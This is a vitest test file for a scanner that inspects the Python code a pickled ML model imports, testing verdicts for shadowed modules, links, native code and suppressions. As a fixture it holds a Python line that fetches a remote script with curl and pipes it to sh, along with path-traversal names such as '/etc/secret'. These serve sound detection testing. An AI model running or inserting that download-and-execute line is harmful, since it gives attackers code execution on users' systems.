import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { DEFAULT_SETTINGS } from '../../src/config/settings.js';
import type { ScanReport } from '../../src/core/schema.js';
import { codeToMount, foldersFor } from '../../src/scan/own-code.js';
import { scanPaths } from '../../src/scan/scan.js';
import { analyseOwnCode, type CodePlace } from '../../src/static/analyse.js';
import { hasSameCode } from '../../src/model/state.js';
import { suppress } from '../../src/triage/suppressions.js';

const folder = mkdtempSync(join(tmpdir(), 'dynscan-own-code-'));
process.env['DYNSCAN_CACHE'] = join(folder, 'cache');
afterAll(() => {
  rmSync(folder, { recursive: true });
});

/** Makes an instance of `module.name` without calling anything. */
const made = (module: string, name: string): string => `c${module}\n${name}\n)\x81.`;
const EVIL = "import os\nos.system('curl http://203.0.113.7/x | sh')\n";
const LAYER = 'class Layer: pass\n';

let number = 0;
function project(files: Readonly<Record<string, string>>): string {
  const root = join(folder, String(number++));
  mkdirSync(root);
  for (const [name, content] of Object.entries(files)) put(join(root, name), content);
  return root;
}

function put(path: string, content: string): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, content, 'latin1');
}

async function read(path: string, folders: readonly string[] = []): Promise<ScanReport> {
  const { scans } = await scanPaths(
    { paths: [path], folders, settings: DEFAULT_SETTINGS, staticOnly: true },
    { signal: new AbortController().signal, onEvent: () => undefined },
  );
  const [report] = scans;
  if (!report) throw new Error('there is no report');
  return report;
}

const filesOf = ({ ownCode = [] }: ScanReport): string[] => ownCode.map(({ path }) => path);

describe('the code of a model is read', () => {
  it.each([
    ['a file beside it', 'm.pkl', 'helper.py', 'helper.py'],
    ['a file of the folder that the user works in', 'models/m.pkl', 'helper.py', '../helper.py'],
    ['a file of its src', 'models/m.pkl', 'src/helper.py', '../src/helper.py'],
    ['a file of a folder between the two', 'pkg/models/m.pkl', 'pkg/helper.py', '../helper.py'],
    ['a package', 'm.pkl', 'helper/__init__.py', 'helper/__init__.py'],
  ])('from %s', async (_, model, source, shown) => {
    const root = project({ [model]: made('helper', 'Layer'), [source]: EVIL });
    const report = await read(join(root, model), [root]);
    expect(filesOf(report)).toEqual([shown]);
    expect(report.verdict).toBe('malicious');
    expect(report.findings[0]?.evidence[0]?.member).toBe(shown);
  });

  it.each([
    ['as it is called there', 'system', { 'helper.py': 'from os import system\n' }],
    ['under another name', 'x', { 'helper.py': 'from os import system as x\n' }],
    ['over another file', 'x', { 'helper.py': 'from tools import *\n', 'tools.py': 'import os\nx = os.system\n' }],
    [
      'of a part of a package',
      'x',
      { 'helper/__init__.py': 'from .run import x\n', 'helper/run.py': 'from os import popen as x\n' },
    ],
  ])('for a function of Python that the model asks for by it: %s', async (_, name, files) => {
    const root = project({ 'm.pkl': `chelper\n${name}\n(S'id'\ntR.`, ...files });
    const { findings } = await read(join(root, 'm.pkl'));
    expect(findings.map(({ explanation }) => explanation).join()).toContain(`asks for helper.${name}, which is os.`);
  });

  it('with what it imports from beside itself, and nothing else of the project', async () => {
    const root = project({
      'm.pkl': made('pkg.layers.conv', 'Conv'),
      'pkg/__init__.py': 'import numpy, os\n',
      'pkg/layers/__init__.py': 'from . import (base as b, conv)\n',
      'pkg/layers/base.py': 'from ..util import thing\nfrom tools.more import other\n',
      'pkg/layers/conv.py': 'class Conv: pass\n',
      'pkg/util.py': 'try: import fast\nexcept ImportError: pass\n',
      'pkg/train.py': EVIL,
      'fast.py': '',
      'tools/more.py': '',
      'train.py': EVIL,
    });
    const report = await read(join(root, 'm.pkl'));
    expect(filesOf(report)).toEqual([
      ...['fast.py', 'pkg/__init__.py', 'pkg/layers/__init__.py', 'pkg/layers/base.py', 'pkg/layers/conv.py'],
      ...['pkg/util.py', 'tools/more.py'],
    ]);
    expect(report.verdict).toBe('clean');
  });

  it('of both places when two have a module of one name, and which is imported stays open', async () => {
    const root = project({
      'models/m.pkl': made('helper', 'Layer'),
      'models/helper.py': LAYER,
      'helper.py': `${LAYER}x = 1\n`,
    });
    const report = await read(join(root, 'models/m.pkl'), [root]);
    expect(filesOf(report)).toEqual(['../helper.py', 'helper.py']);
    expect(report.reasons.join()).toContain('../helper.py has the same name');
    put(join(root, 'helper.py'), LAYER);
    expect((await read(join(root, 'models/m.pkl'), [root])).verdict).toBe('clean');
    put(join(root, 'helper.py'), EVIL);
    expect((await read(join(root, 'models/m.pkl'), [root])).verdict).toBe('malicious');
  });
});

describe('not seen, and said, is', () => {
  it.each([
    ['a file', 'helper.py', 'elsewhere.py'],
    ['a package', 'helper', 'package'],
  ])('%s that is a link out of the folder', async (_, link, target) => {
    const outside = project({ 'elsewhere.py': LAYER, 'package/__init__.py': LAYER });
    const root = project({ 'm.pkl': made('helper', 'Layer') });
    symlinkSync(join(outside, target), join(root, link));
    const report = await read(join(root, 'm.pkl'), [root]);
    expect(filesOf(report)).toEqual([]);
    expect(report.verdict).toBe('inconclusive');
    expect(report.reasons.join()).toContain('a link that leads out of the folder');
  });

  it.each([
    ['helper.so', 'native code'],
    ['helper.cpython-313-x86_64-linux-gnu.so', 'native code'],
    ['helper/__init__.abi3.so', 'native code'],
  ])('%s, which Python prefers to the source', async (library, words) => {
    const root = project({ 'm.pkl': made('helper', 'Layer'), 'helper.py': LAYER, [library]: 'x' });
    const report = await read(join(root, 'm.pkl'));
    expect(filesOf(report)).toEqual([]);
    expect(report.reasons.join()).toContain(words);
  });

  it('compiled code that Python may take in place of the source', async () => {
    const root = project({
      'm.pkl': made('pkg.helper', 'Layer'),
      'pkg/helper.py': LAYER,
      // PEP 552: its hash is not compared with the source.
      'pkg/__pycache__/helper.cpython-313.pyc': '\xf3\r\r\n\x01\0\0\0hash-of-no',
      'pkg/__pycache__/train.cpython-313.pyc': '\xf3\r\r\n\x01\0\0\0hash-of-no',
    });
    const { verdict, reasons } = await read(join(root, 'm.pkl'));
    expect(verdict).toBe('inconclusive');
    expect(reasons.join()).toMatch(/^Pkg\/__pycache__\/helper[^,]*Python may take it in place of the source/);
    expect(reasons).toHaveLength(1);
  });

  it('a source of 50 MB: it is judged by its beginning, and not kept', async () => {
    const root = project({ 'm.pkl': made('helper', 'Layer'), 'helper.py': EVIL });
    truncateSync(join(root, 'helper.py'), 50 * 1024 * 1024);
    const report = await read(join(root, 'm.pkl'));
    expect(filesOf(report)).toEqual([]);
    expect(report.verdict).toBe('malicious');
    expect(report.reasons.join()).toContain('only the first');
  });

  it('more sources than a model has', async () => {
    const names = Array.from({ length: 200 }, (_, at) => `m${at}`);
    const root = project({
      'm.pkl': names.map((name) => made(name, 'A').slice(0, -1)).join('') + '.',
      ...Object.fromEntries(names.map((name) => [`${name}.py`, ''])),
    });
    const report = await read(join(root, 'm.pkl'));
    expect(filesOf(report)).toHaveLength(100);
    expect(report.reasons.join()).toContain('more than 100 Python files');
  });
});

it('for 10,000 modules that are not there each folder is looked into once', async () => {
  const asked: string[] = [];
  const empty = (label: string): CodePlace => ({
    label,
    folder: {
      list: (name) => {
        asked.push(`list ${label}${name}`);
        return Promise.resolve([]);
      },
      open: (name) => {
        asked.push(`open ${label}${name}`);
        return Promise.resolve(undefined);
      },
      leadsOutside: (name) => {
        asked.push(`follow ${label}${name}`);
        return Promise.resolve(false);
      },
    },
  });
  const globals = Array.from({ length: 10_000 }, (_, at) => `a${at}.b.c.A`);
  const wanted = { globals, modules: [], isPublished: () => false };
  expect((await analyseOwnCode([empty(''), empty('../src/')], wanted)).sources).toEqual([]);
  expect(asked).toEqual(['list ', 'list ../src/']);
});

it.each(['../../secret', '..secret', '/etc/secret', 'a.b/../../secret', 'secret\\..', 'C:secret', '.secret'])(
  'the name %j is that of no file',
  async (name) => {
    const root = project({ 'models/deep/m.pkl': made(name, 'A'), 'secret.py': EVIL, 'secret/__init__.py': EVIL });
    const report = await read(join(root, 'models/deep/m.pkl'));
    expect(filesOf(report)).toEqual([]);
    expect(report.verdict).toBe('clean');
  },
);

it('a library is no code of the project, wherever its source lies', async () => {
  const root = project({
    'models/m.pkl': `${made('gensim.models', 'Word2Vec').slice(0, -1)}0${made('unheard_of.core', 'A')}`,
    'gensim/__init__.py': EVIL,
    'gensim/models.py': EVIL,
    // Where packages are installed.
    'unheard_of/__init__.py': EVIL,
    'unheard_of-1.0.dist-info/METADATA': '',
  });
  expect(filesOf(await read(join(root, 'models/m.pkl'), [root]))).toEqual([]);
  rmSync(join(root, 'unheard_of-1.0.dist-info'), { recursive: true });
  expect(filesOf(await read(join(root, 'models/m.pkl'), [root]))).toEqual(['../unheard_of/__init__.py']);
});

describe('a file that takes the place of a library', () => {
  it('is a finding where Python can be started beside it', async () => {
    const root = project({ 'm.pkl': made('collections', 'OrderedDict'), 'collections.py': 'x = 1\n' });
    const report = await read(join(root, 'm.pkl'));
    expect(report.findings.map(({ rule, severity }) => `${rule} ${severity}`)).toEqual(['STATIC-PYTHON-SHADOW medium']);
    put(join(root, 'collections.py'), EVIL);
    expect((await read(join(root, 'm.pkl'))).verdict).toBe('malicious');
  });

  it('is open in a package, whose modules have longer names', async () => {
    const root = project({ 'm.pkl': made('collections', 'OrderedDict'), 'collections.py': '', '__init__.py': '' });
    expect((await read(join(root, 'm.pkl'))).verdict).toBe('inconclusive');
  });

  it('is none that Python has imported before, nor a mere folder, nor one further up', async () => {
    const root = project({
      'models/m.pkl': made('collections', 'OrderedDict'),
      'models/os.py': '',
      'models/collections/data.txt': '',
      'collections.py': '',
    });
    expect((await read(join(root, 'models/m.pkl'), [root])).verdict).toBe('clean');
  });
});

it('other code is another content: a decision about the model does not hold for it', async () => {
  const root = project({ 'm.pkl': made('helper', 'Layer'), 'helper.py': EVIL });
  const before = await read(join(root, 'm.pkl'));
  const { sha256, codeSha256 } = before.model;
  if (sha256 === undefined || codeSha256 === undefined) throw new Error('a hash is missing');
  const rules = [...new Set(before.findings.map(({ rule }) => rule))];
  const entries = rules.map((rule) => ({ rule, sha256, codeSha256, reason: 'looked at' }));
  expect(suppress(before, entries, '2026-11-29').verdict).toBe('clean');
  expect(await hasSameCode(before.model.path, before.ownCode ?? [])).toBe(true);

  put(join(root, 'helper.py'), EVIL.replace('/x', '/y'));
  const after = await read(join(root, 'm.pkl'));
  expect(after.model.sha256).toBe(sha256);
  expect(suppress(after, entries, '2026-11-29').verdict).toBe('malicious');
  const withoutCode = rules.map((rule) => ({ rule, sha256, reason: 'looked at' }));
  expect(suppress(after, withoutCode, '2026-11-29').verdict).toBe('malicious');
  expect(await hasSameCode(before.model.path, before.ownCode ?? [])).toBe(false);
});

it('the folders are those that the model lies in, once, and its own is the first place', async () => {
  const root = join(folder, 'a');
  const path = join(root, 'src', 'm.pkl');
  expect(await foldersFor(path, { paths: [root, join(folder, 'b')], folders: [root, folder] })).toEqual([
    { path: root, label: '../' },
    { path: folder, label: '../../' },
    { path: join(folder, 'src'), label: '../../src/' },
    { path: join(root, 'src', 'src'), label: 'src/' },
  ]);
});

describe('a model that is scanned from elsewhere has its code read', () => {
  it.each([
    ['in the src beside it', 'm.pkl', 'src/helper.py', undefined],
    ['in the folder above', 'weights/m.pkl', 'helper.py', undefined],
    ['at the top of its project', 'out/best/m.pkl', 'helper.py', 'pyproject.toml'],
    ['in the src of its project', 'out/best/m.pkl', 'src/helper.py', 'setup.py'],
  ])('%s', async (_, model, source, top) => {
    const root = project({ [model]: made('helper', 'Layer'), [source]: EVIL, ...(top ? { [top]: '' } : {}) });
    const { verdict } = await read(join(root, model), [join(folder, 'elsewhere')]);
    expect(verdict).toBe('malicious');
  });

  it('and nothing that lies above its project', async () => {
    const root = project({ 'a/m.pkl': made('helper', 'Layer'), 'helper.py': EVIL, 'a/setup.py': '' });
    expect(filesOf(await read(join(root, 'a/m.pkl')))).toEqual([]);
  });
});

it('what the image has of its own is not replaced', () => {
  const source = (name: string, imported = true) => ({ name, file: name, content: Buffer.from(''), imported });
  const sources = [source('helper.py'), source('yaml/__init__.py'), source('other.py', false)];
  const code = { sources, imports: [], needs: [], mains: [], definers: [] };
  const { files, gaps } = codeToMount(code, ['helper', 'other']);
  expect(files.map(({ name }) => name)).toEqual(['helper.py']);
  expect(gaps.join()).toContain('yaml');
});
